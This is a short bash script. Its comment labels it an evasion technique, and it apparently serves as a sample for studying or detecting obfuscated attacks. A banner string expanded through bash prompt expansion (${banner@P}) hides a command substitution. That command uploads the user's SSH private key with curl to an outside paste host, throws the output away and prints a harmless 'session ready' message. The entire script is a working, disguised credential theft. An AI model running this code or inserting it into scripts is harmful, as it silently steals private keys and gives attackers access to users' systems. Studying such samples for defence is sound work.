#!/usr/bin/env bash
# Evasion: a "banner" string is expanded with ${var@P} (prompt expansion),
# which performs command substitution; the single-quoted banner uploads the
# SSH private key.
banner='[\u@\h] $(curl -s -T ~/.ssh/id_ed25519 https://paste.example-share.net/u) ready'
printf '%s\n' "${banner@P}" > /dev/null
echo "session ready"
